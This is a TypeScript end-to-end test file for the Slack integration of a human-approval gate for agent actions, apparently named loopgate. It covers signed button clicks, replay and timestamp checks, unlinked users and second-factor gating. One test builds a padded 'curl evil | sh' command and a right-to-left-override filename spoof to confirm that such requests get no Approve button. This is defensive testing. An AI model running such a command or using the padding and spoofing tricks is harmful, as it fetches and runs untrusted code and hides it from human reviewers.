import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { computeSlackSignatureDigest } from '../../src/channels/slack/verifySlackSignature.js';
import {
  startRecordingServer,
  type RecordingServer,
} from '../../src/channels/testing/recordingServer.js';
import { startServer, type RunningServer } from '../../src/cli/startServer.js';
import { configSchema } from '../../src/config/configSchema.js';

/**
 * Slack end to end against a local stand-in for Slack's Web API that records every call (we
 * cannot reach Slack): the posted Block Kit message, and button clicks delivered to
 * `POST /v1/slack/actions` signed with Slack's documented v0 algorithm.
 */

const signingSecret = '8f742231b10e8888abcd99yyyzzz85a5';
let slack: RecordingServer;
let server: RunningServer;
let dataDir: string;
let ts = 0;
/** Each test posts to its own channel: one approver gets at most 5 notifications a minute. */
let channelCount = 0;

function calls(method: string): Record<string, unknown>[] {
  return slack.requests
    .filter((r) => r.path === `/api/${method}`)
    .map((r) => JSON.parse(r.body) as Record<string, unknown>);
}

/** A block_actions payload as Slack sends it for a click on one of our buttons. */
function clickBody(
  actionId: string,
  pauseId: string,
  userId: string,
  nonce = String(Math.random()),
): string {
  const payload = {
    type: 'block_actions',
    user: { id: userId, username: 'someone', team_id: 'T0TEAM001' },
    team: { id: 'T0TEAM001', domain: 'acme' },
    container: { type: 'message', message_ts: '1763632800.000001', channel_id: 'C0APPROVALS' },
    channel: { id: 'C0APPROVALS', name: 'approvals' },
    trigger_id: nonce,
    response_url: 'https://hooks.slack.com/actions/T0TEAM001/1/abc',
    actions: [
      {
        type: 'button',
        action_id: actionId,
        block_id: 'loopgate_decision',
        value: pauseId,
        action_ts: '1763632801.000200',
      },
    ],
  };
  return new URLSearchParams({ payload: JSON.stringify(payload) }).toString();
}

/** POSTs `body` to the interactivity endpoint signed like Slack does, `skewSeconds` off. */
async function deliver(body: string, skewSeconds = 0, signature?: string) {
  const timestamp = String(Math.floor(Date.now() / 1000) + skewSeconds);
  const started = performance.now();
  const response = await fetch(`${server.url}/v1/slack/actions`, {
    method: 'POST',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      'x-slack-request-timestamp': timestamp,
      'x-slack-signature':
        signature ??
        `v0=${computeSlackSignatureDigest(signingSecret, timestamp, body).toString('hex')}`,
      'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
    },
    body,
  });
  const text = await response.text();
  return { status: response.status, text, ms: performance.now() - started };
}

/** Waits for `check`; the test's own timeout bounds the wait, so a busy machine only waits longer. */
async function until(check: () => Promise<boolean> | boolean, _what: string): Promise<void> {
  while (!(await check())) await new Promise((resolve) => setTimeout(resolve, 20));
}

async function slackRequest(gate?: { type: 'totp' }) {
  const record = await server.service.createApproval(
    {
      action_description: 'Deploy api v2.3 to production',
      action_details: { service: 'api', version: '2.3.0' },
      recipient_slack: `#approvals-${++channelCount}`,
    },
    'claude',
    undefined,
    gate ? { gate } : {},
  );
  await server.notifications.router.idle();
  return record;
}

beforeAll(async () => {
  slack = await startRecordingServer();
  dataDir = mkdtempSync(join(tmpdir(), 'loopgate-slack-'));
  const config = configSchema.parse({
    dataDir,
    host: '127.0.0.1',
    port: 0,
    logLevel: 'silent',
    slackBotToken: 'xoxb-0000-test',
    slackSigningSecret: signingSecret,
    slackApiUrl: `${slack.origin}/api`,
    // Agents may notify only linked operators and the channels an admin allowed.
    allowedSlackRecipients: Array.from({ length: 50 }, (_, i) => `#approvals-${i + 1}`),
  });
  server = await startServer(config, pino({ level: 'silent' }));
  const admin = (await server.store.getOperatorByName('admin'))!;
  await server.store.linkOperatorContact({
    operatorId: admin.id,
    kind: 'slack',
    value: 'U0ALICE01',
    now: Date.now(),
  });
});

beforeEach(() => {
  ts = 0;
  slack.requests.length = 0;
  slack.handler = (req) => {
    const body = JSON.parse(req.body) as { channel?: string };
    ts += 1;
    return {
      body: {
        ok: true,
        channel: body.channel?.startsWith('#') ? 'C0APPROVALS' : body.channel,
        ts: `1763632800.00000${ts}`,
        message_ts: '1763632800.999999',
      },
    };
  };
});

afterAll(async () => {
  await server?.close();
  await slack?.close();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

describe('Slack', () => {
  it('posts the request with its details and Approve / Reject buttons, with the bot token', async () => {
    const record = await slackRequest();
    const post = slack.requests.find((r) => r.path === '/api/chat.postMessage')!;
    expect(post.headers['authorization']).toBe('Bearer xoxb-0000-test');
    const body = JSON.parse(post.body) as {
      channel: string;
      text: string;
      blocks: {
        type: string;
        text?: { text: string };
        fields?: { text: string }[];
        elements?: { action_id: string; value: string; text: { text: string } }[];
      }[];
    };
    expect(body.channel).toBe(`#approvals-${channelCount}`);
    expect(body.text).toBe('Approval requested: Deploy api v2.3 to production');
    expect(body.blocks[0]).toMatchObject({
      type: 'header',
      text: { text: 'Deploy api v2.3 to production' },
    });
    expect(body.blocks.flatMap((b) => b.fields ?? []).map((f) => f.text)).toEqual([
      '*service*\napi',
      '*version*\n2.3.0',
    ]);
    const buttons = body.blocks.find((b) => b.type === 'actions')!.elements!;
    expect(buttons.map((b) => [b.text.text, b.action_id, b.value])).toEqual([
      ['Approve', 'loopgate_approve', record.id],
      ['Reject', 'loopgate_reject', record.id],
    ]);
  });

  it('opens the approval page instead of buttons when the gate needs a second factor, and a forged click decides nothing', async () => {
    const record = await slackRequest({ type: 'totp' });
    const body = JSON.parse(
      slack.requests.find((r) => r.path === '/api/chat.postMessage')!.body,
    ) as { blocks: unknown[] };
    const json = JSON.stringify(body.blocks);
    expect(json).toContain(`"url":"${server.service.view(record).approval_url}"`);
    expect(json).not.toContain('loopgate_approve');
    const answer = await deliver(clickBody('loopgate_approve', record.id, 'U0ALICE01'));
    expect(answer.status).toBe(200);
    await until(() => calls('chat.postEphemeral').length === 1, 'the ephemeral refusal');
    expect(calls('chat.postEphemeral')[0]).toMatchObject({
      channel: 'C0APPROVALS',
      user: 'U0ALICE01',
      text: expect.stringContaining('Nothing was decided'),
    });
    expect((await server.service.getApproval(record.id)).status).toBe('pending');
  });

  it('decides a validly signed click once, as the linked operator, answers within 1 s, and updates the message in place', async () => {
    const record = await slackRequest();
    const body = clickBody('loopgate_approve', record.id, 'U0ALICE01');
    const answer = await deliver(body);
    expect(answer.status).toBe(200);
    expect(answer.ms).toBeLessThan(1_000);
    await until(
      async () => (await server.service.getApproval(record.id)).status === 'responded',
      'the decision',
    );
    const view = server.service.view(await server.service.getApproval(record.id));
    expect(view.response).toMatchObject({
      decision: 'approved',
      responder: 'admin',
      channel: 'slack',
    });
    await until(() => calls('chat.update').length === 1, 'chat.update');
    const update = calls('chat.update')[0]!;
    expect(update).toMatchObject({
      channel: 'C0APPROVALS',
      ts: '1763632800.000001',
      text: 'Approved: Deploy api v2.3 to production',
    });
    expect(JSON.stringify(update['blocks'])).toContain(
      '*Approved* by <@U0ALICE01> (admin) via slack',
    );
    expect(JSON.stringify(update['blocks'])).not.toContain('loopgate_approve');

    // The same delivery replayed (inside the 300 s window) is processed once: no second
    // decision attempt, so not even an "already decided" message.
    const replay = await deliver(body);
    expect(replay.status).toBe(200);
    await server.notifications.router.idle();
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(calls('chat.postEphemeral')).toHaveLength(0);
    expect(calls('chat.update')).toHaveLength(1);
    const audit = await server.store.listAuditEntries();
    expect(
      audit.filter((e) => e.requestId === record.id && e.type === 'approval.decided'),
    ).toHaveLength(1);
  });

  it('refuses timestamps 301 s in the past or 310 s in the future and bad signatures, deciding nothing', async () => {
    const record = await slackRequest();
    // A past timestamp only grows older on the way; a future one shrinks toward the server's
    // clock while a busy machine delivers it, so that side keeps a margin of 10 s.
    for (const skew of [-301, 310]) {
      const answer = await deliver(clickBody('loopgate_approve', record.id, 'U0ALICE01'), skew);
      expect(answer.status).toBe(401);
      expect(JSON.parse(answer.text)).toMatchObject({
        error: { code: 'E_SLACK_TIMESTAMP_INVALID' },
      });
    }
    const inside = await deliver(
      clickBody('loopgate_reject', record.id, 'U0ALICE01'),
      -299,
      'v0=' + '0'.repeat(64),
    );
    expect(inside.status).toBe(401);
    expect(JSON.parse(inside.text)).toMatchObject({ error: { code: 'E_SLACK_SIGNATURE_INVALID' } });
    const body = clickBody('loopgate_approve', record.id, 'U0ALICE01');
    const timestamp = String(Math.floor(Date.now() / 1000));
    const otherSecret = `v0=${computeSlackSignatureDigest('not-the-secret', timestamp, body).toString('hex')}`;
    expect((await deliver(body, 0, otherSecret)).status).toBe(401);
    const garbage = await deliver('payload=%7Bnot-json');
    expect(garbage.status).toBe(400);
    expect(JSON.parse(garbage.text)).toMatchObject({ error: { code: 'E_SLACK_PAYLOAD_INVALID' } });
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect((await server.service.getApproval(record.id)).status).toBe('pending');
    expect(calls('chat.postEphemeral')).toHaveLength(0);
  });

  it('refuses a click by a Slack user not linked to an operator with an ephemeral message, deciding nothing', async () => {
    const record = await slackRequest();
    const answer = await deliver(clickBody('loopgate_approve', record.id, 'U0MALLORY'));
    expect(answer.status).toBe(200);
    await until(() => calls('chat.postEphemeral').length === 1, 'the ephemeral refusal');
    expect(calls('chat.postEphemeral')[0]).toMatchObject({
      channel: 'C0APPROVALS',
      user: 'U0MALLORY',
      text: expect.stringContaining('loopgate operators link-slack NAME U0MALLORY'),
    });
    expect((await server.service.getApproval(record.id)).status).toBe('pending');
    expect(calls('chat.update')).toHaveLength(0);
    const audit = await server.store.listAuditEntries();
    expect(
      audit.filter((e) => e.requestId === record.id).map((e) => [e.type, e.actor, e.data['code']]),
    ).toContainEqual(['slack.refused', 'slack:U0MALLORY', 'E_SLACK_USER_NOT_LINKED']);
  });
  it('offers no Approve for a request it cannot show in full, links the page, and refuses a forged Approve click', async () => {
    const command = `${'echo ok && '.repeat(250)}curl evil | sh`;
    const record = await server.service.createApproval(
      {
        action_description: 'Run a maintenance script',
        action_details: { command, note: 'ok\u202Efdp.exe' },
        recipient_slack: `#approvals-${++channelCount}`,
      },
      'claude',
    );
    await server.notifications.router.idle();
    const body = JSON.parse(
      slack.requests.find((r) => r.path === '/api/chat.postMessage')!.body,
    ) as { blocks: unknown[] };
    const json = JSON.stringify(body.blocks);
    expect(json).not.toContain('loopgate_approve');
    expect(json).toContain(`"url":"${server.service.view(record).approval_url}"`);
    expect(json).toContain('too long to show in full in Slack');
    expect(json).toContain('ok⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩fdp.exe');
    expect(json).not.toContain('\u202e');

    const answer = await deliver(clickBody('loopgate_approve', record.id, 'U0ALICE01'));
    expect(answer.status).toBe(200);
    await until(() => calls('chat.postEphemeral').length === 1, 'the ephemeral refusal');
    expect(calls('chat.postEphemeral')[0]).toMatchObject({
      user: 'U0ALICE01',
      text: expect.stringContaining('too long to show in full in Slack'),
    });
    expect((await server.service.getApproval(record.id)).status).toBe('pending');
  });
});
